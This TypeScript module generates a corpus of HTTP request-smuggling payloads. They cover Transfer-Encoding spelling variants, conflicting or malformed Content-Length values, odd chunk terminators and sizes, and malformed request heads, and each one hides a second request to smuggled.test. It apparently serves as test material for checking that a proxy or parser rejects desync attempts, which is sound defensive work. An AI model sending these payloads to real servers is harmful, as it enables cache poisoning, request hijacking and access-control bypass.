/**
 * Request that hides a second one, or the length of its body, from one of two parsers. The families and their names follow public
 * tools that search for smuggling (defparam/smuggler; PortSwigger's HTTP Request Smuggler, `DesyncBox` and `SmugChunks`), the
 * cases of llhttp's own tests, and RFC 9112, section 11.2.
 */
export interface Attack {
  readonly name: string
  /** Whether the request is complete: what follows it on the connection is another request. */
  readonly bytes: string
}

/** Request that the backend must never receive. */
export const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: smuggled.test\r\nContent-Length: 0\r\n\r\n'

const range = (from: number, to: number): readonly number[] => Array.from({ length: to - from }, (_, index) => from + index)
/** Control characters, the space, and all bytes outside ASCII. */
export const EVERY_ODD_BYTE = [...range(0, 0x21), ...range(0x7f, 0x100)]
const hex = (code: number): string => code.toString(16).padStart(2, '0')

const request = (host: string, fields: string, body: string): string =>
  `POST /first HTTP/1.1\r\nHost: ${host}\r\n${fields}\r\n\r\n${body}`

/** Spellings of `Transfer-Encoding: chunked` that only some parsers accept. */
function transferEncodings(): readonly (readonly [string, string])[] {
  const everyByte = EVERY_ODD_BYTE.flatMap((code) => {
    const byte = String.fromCharCode(code)
    return [
      [`midspace-${hex(code)}`, `Transfer-Encoding:${byte}chunked`],
      [`postspace-${hex(code)}`, `Transfer-Encoding${byte}: chunked`],
      [`prespace-${hex(code)}`, `${byte}Transfer-Encoding: chunked`],
      [`endspace-${hex(code)}`, `Transfer-Encoding: chunked${byte}`],
      [`inspace-${hex(code)}`, `Transfer-Enc${byte}oding: chunked`],
    ] as const
  })
  return [
    ...everyByte,
    ['vanilla', 'Transfer-Encoding: chunked'],
    ['nospace', 'Transfer-Encoding:chunked'],
    ['valueprefix', 'Transfer-Encoding:  chunked'],
    ['tabprefix', 'Transfer-Encoding\t:\tchunked'],
    ['underjoin', 'Transfer_Encoding: chunked'],
    ['spacejoin', 'Transfer Encoding: chunked'],
    ['smashed', 'Transfer Encoding:chunked'],
    ['backslash', 'Transfer\\Encoding: chunked'],
    ['encode', 'Transfer-%45ncoding: chunked'],
    ['spjunk', 'Transfer-Encoding x: chunked'],
    ['commaCow', 'Transfer-Encoding: chunked, cow'],
    ['cowComma', 'Transfer-Encoding: cow, chunked'],
    ['commaNothing', 'Transfer-Encoding: chunked,'],
    ['nothingComma', 'Transfer-Encoding: ,chunked'],
    ['dualchunk', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'],
    ['revdualchunk', 'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked'],
    ['dualcase', 'Transfer-Encoding: chunked\r\ntransfer-encoding: CHUNKED'],
    ['nested', 'Transfer-Encoding: identity, chunked, identity'],
    ['nestedBlank', 'Transfer-Encoding: cow chunked bar'],
    ['contentEnc', 'Content-Encoding: chunked'],
    ['quoted', 'Transfer-Encoding: "chunked"'],
    ['aposed', "Transfer-Encoding: 'chunked'"],
    ['parameter', 'Transfer-Encoding: chunked;q=1'],
    ['lazygrep', 'Transfer-Encoding: chunk'],
    ['longer', 'Transfer-Encoding: chunkedx'],
    ['identity', 'Transfer-Encoding: identity'],
    ['empty', 'Transfer-Encoding:'],
    ['sarcasm', 'TrAnSFer-EnCODinG: cHuNkeD'],
    ['yelling', 'TRANSFER-ENCODING: CHUNKED'],
    ['linewrapped', 'Transfer-Encoding:\n chunked'],
    ['tabwrap', 'Transfer-Encoding:\r\n\tchunked'],
    ['vertwrap', 'Transfer-Encoding: \n\x0bchunked'],
    ['obs-fold', 'Transfer-Encoding:\r\n chunked'],
    ['folded name', 'Transfer-Encoding\r\n : chunked'],
    ['nameprefix1', 'Foo: bar\r\n Transfer-Encoding: chunked'],
    ['nameprefix2', 'Foo: bar\r\n\tTransfer-Encoding: chunked'],
    ['gareth', 'Transfer-Encoding\n : chunked'],
    ['badsetupCR', 'Foo: bar\rTransfer-Encoding: chunked'],
    ['badsetupLF', 'Foo: bar\nTransfer-Encoding: chunked'],
    ['emptyCR', 'Foo:\rTransfer-Encoding: chunked'],
    ['emptyLF', 'Foo:\nTransfer-Encoding: chunked'],
    ['0dwrap', 'Foo: bar\r\n\rTransfer-Encoding: chunked'],
    ['0dspam', 'Tra\rnsfer-Encoding: chunked'],
    ['rxprespace', 'X: X\r\x0bTransfer-Encoding: chunked'],
    ['xnprespace', 'X: X\x0b\nTransfer-Encoding: chunked'],
    ['endspacerx', 'Transfer-Encoding: chunked\r\x0bX: X'],
    ['endspacexn', 'Transfer-Encoding: chunked\x0b\nX: X'],
    ['bodysplit', 'Foo: barn\n\nTransfer-Encoding: chunked'],
    ['connection', 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked'],
    ['no name', ': chunked'],
    ['accentTE', 'Transf\x82r-Encoding: chunked'],
    ['accentCH', 'Transfer-Encoding: ch\x96nked'],
  ]
}

/**
 * Each spelling with a Content-Length before and behind it, and alone. The body is correct for one parser, and hides a request
 * from the other.
 */
function clAgainstTe(host: string): readonly Attack[] {
  const clTe = `0\r\n\r\n${SMUGGLED}`
  const teCl = `${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`
  return transferEncodings().flatMap(([name, te]) => [
    { name: `CL.TE ${name}`, bytes: request(host, `${te}\r\nContent-Length: ${clTe.length}`, clTe) },
    { name: `TE.CL ${name}`, bytes: request(host, `Content-Length: 4\r\n${te}`, teCl) },
    { name: `TE.0 ${name}`, bytes: request(host, te, teCl) },
  ])
}

function contentLengths(host: string): readonly Attack[] {
  const length = SMUGGLED.length
  const values = [
    ...[
      `+${length}`,
      `-${length}`,
      `0x${length.toString(16)}`,
      `${length}.0`,
      `${length}e0`,
      `${length},${length}`,
      `0,${length}`,
      `${length}, 0`,
    ],
    ...[
      `${length} 0`,
      `${length};a`,
      `"${length}"`,
      `${length}\x0b`,
      `\x0c${length}`,
      `${length}\x00`,
      `0_${length}`,
      '',
      'x',
      '１０',
      '99999999999999999999',
    ],
    ...['18446744073709551616', '4294967296', `${2 ** 32 + length}`, `${'0'.repeat(40)}${length}`],
  ]
  const fields = [
    ...values.map((value) => `Content-Length: ${value}`),
    ...[
      `Content-Length: 0\r\nContent-Length: ${length}`,
      `Content-Length: ${length}\r\nContent-Length: 0`,
      `Content-Length: ${length}\r\ncontent-length: ${length}`,
    ],
    ...[
      `Content_Length: ${length}`,
      `Content Length: ${length}`,
      `Content-Length : ${length}`,
      ` Content-Length: ${length}`,
      `Content-Length\t: ${length}`,
    ],
    ...[
      `X: y\nContent-Length: ${length}`,
      `X: y\rContent-Length: ${length}`,
      `X: y\r\n Content-Length: ${length}`,
      `Content-Length:\r\n ${length}`,
    ],
    ...[`Connection: Content-Length\r\nContent-Length: ${length}`, `Content-Length: 0\r\nX: y\n\nContent-Length: ${length}`],
  ]
  return fields.map((field) => ({ name: `CL ${JSON.stringify(field)}`, bytes: request(host, field, SMUGGLED) }))
}

/** Line ends of chunks that only some parsers accept. */
const TERMINATORS = ['\n', '\r', '\rX', '\r\r', '\n\r', '\x0b', '']

function chunks(host: string): readonly Attack[] {
  const chunked = (name: string, body: string): Attack => ({
    name: `chunk ${name}`,
    bytes: request(host, 'Transfer-Encoding: chunked', body),
  })
  const hidden = `${(SMUGGLED.length + 7).toString(16)}\r\nx\r\n0\r\n\r\n${SMUGGLED}\r\n0\r\n\r\n`
  const lines = TERMINATORS.flatMap((end) => {
    const as = JSON.stringify(end)
    return [
      chunked(`TERM.EXT ${as}`, `2;${end}xx\r\n${hidden}`),
      chunked(`EXT.TERM ${as}`, `2;${end}xx\r\n40\r\n0\r\n\r\n${SMUGGLED}`),
      chunked(`TERM.SPILL ${as}`, `5\r\nAAAAA${end}2\r\nXX\r\n0\r\n\r\n${SMUGGLED}`),
      chunked(`SPILL.TERM ${as}`, `5\r\nAAAAA${end}\r\n0\r\n\r\n${SMUGGLED}`),
      chunked(`size ${as}`, `5${end}AAAAA\r\n0\r\n\r\n${SMUGGLED}`),
      chunked(`last ${as}`, `0${end}\r\n\r\n${SMUGGLED}`),
      chunked(`end of trailers ${as}`, `0\r\nX: y\r\n${end}${SMUGGLED}`),
      chunked(`trailer ${as}`, `0\r\nX: y${end}Content-Length: 9\r\n\r\n${SMUGGLED}`),
    ]
  })
  const sizes = [
    '0x5',
    '+5',
    '-5',
    ' 5',
    '5 ',
    '5\t',
    '05',
    '5_',
    '5,5',
    'g',
    '',
    '0000000000000005',
    '100000005',
    '10000000000000005',
    '5;',
    '5;a',
    '5;a=b',
    '5;a="b"',
    '5;a="\r\n"',
    '5 ;a',
    '5;\x00',
    '٥',
  ]
  return [...lines, ...sizes.map((size) => chunked(`size ${JSON.stringify(size)}`, `${size}\r\nAAAAA\r\n0\r\n\r\n${SMUGGLED}`))]
}

function lines(host: string): readonly Attack[] {
  const heads = [
    ...[
      `POST /first HTTP/1.1\nHost: ${host}\r\n\r\n`,
      `POST /first HTTP/1.1\r\nHost: ${host}\n\r\n`,
      `POST /first HTTP/1.1\r\nHost: ${host}\r\n\n`,
      `POST /first HTTP/1.1\r\nHost: ${host}\r\n\r`,
    ],
    ...[
      `POST /first HTTP/1.1\r\n Host: ${host}\r\n\r\n`,
      `POST /first HTTP/1.1\r\n\r\nHost: ${host}\r\n\r\n`,
      `POST /first HTTP/1.1\rHost: ${host}\r\n\r\n`,
    ],
    ...[
      'HTTP/1.2',
      'HTTP/1.10',
      'HTTP/2.0',
      'http/1.1',
      'HTTP/01.1',
      'HTTP/1.1 ',
      'HTTP /1.1',
      'ICE/1.0',
      'HTTP/1.1\t',
      '',
      'HTTP/0.9',
      'HTTP/11',
    ].map((version) => `POST /first ${version}\r\nHost: ${host}\r\n\r\n`),
    ...[
      '/first /second',
      'first',
      '//first',
      '\\first',
      'http://other/first',
      `http://${host}@other/first`,
      `http://${host}:80@other/`,
      '/first\t',
      '/fi\x00rst',
      '/first#a',
      '*',
      'host:80',
      '/fi\nrst',
      '/\x85first',
    ].map((target) => `POST ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`),
    ...['P OST', 'POST\t', '', ' POST', 'PO\x00ST', 'POST\x0b', 'CONNECT', 'PRI', '"POST"'].map(
      (method) => `${method} /first HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
    ),
    ...[
      `Host: ${host}\r\nHost: other`,
      `Host: ${host}, other`,
      `Host: other@${host}`,
      `Host: ${host}/x`,
      `Host: ${host}:80:80`,
      `Host: ${host} `,
      `Host:\t${host}\x0b`,
      'Host:',
      `host : ${host}`,
    ].map((named) => `POST /first HTTP/1.1\r\n${named}\r\n\r\n`),
    ...[
      `Expect: 100-continue\r\nExpect: x`,
      'Expect: 100-continued',
      'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAA',
      'Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: 4',
      'Connection: close\r\nContent-Length: 0',
      'Connection: ,,Host',
      'Connection: X-Forwarded-For, X-Request-Id',
      'Fo@: x',
      'Foo\x01: x',
      'A\r\x1b: x',
      ': x',
      'Trailer: Content-Length',
    ].map((field) => `POST /first HTTP/1.1\r\nHost: ${host}\r\n${field}\r\n\r\n`),
  ]
  return heads.map((head) => ({ name: `head ${JSON.stringify(head.replaceAll(host, 'H'))}`, bytes: head + SMUGGLED }))
}

/** Returns all attacks for requests to this host, by family. */
export const smugglingCorpus = (host: string): Readonly<Record<string, readonly Attack[]>> => ({
  'Content-Length against Transfer-Encoding': clAgainstTe(host),
  'the value of Content-Length': contentLengths(host),
  'the lines of chunks': chunks(host),
  'the lines of the head': lines(host),
})
